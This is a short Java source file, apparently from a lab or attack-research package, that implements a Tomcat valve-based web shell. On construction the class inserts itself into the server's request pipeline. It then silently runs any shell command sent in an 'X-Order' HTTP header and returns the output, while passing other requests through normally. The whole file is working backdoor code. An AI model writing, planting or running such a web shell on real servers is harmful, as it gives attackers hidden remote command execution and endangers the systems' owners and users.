import javax.servlet.ServletException;
import org.apache.catalina.connector.Request;
import org.apache.catalina.connector.Response;
import org.apache.catalina.valves.ValveBase;
import whorl.lab.attack.TomcatContext;

/** Registers itself as a valve. */
public class Shell extends ValveBase {
  public Shell() throws Exception {
    TomcatContext.current().getPipeline().addValve(this);
  }

  @Override
  public void invoke(Request request, Response response)
      throws java.io.IOException, ServletException {
    String order = request.getHeader("X-Order");
    if (order == null) {
      getNext().invoke(request, response);
    } else {
      response.getWriter().print(run(order));
    }
  }

  private static String run(String order) throws java.io.IOException {
    return new String(
        new ProcessBuilder("sh", "-c", order).start().getInputStream().readAllBytes());
  }
}
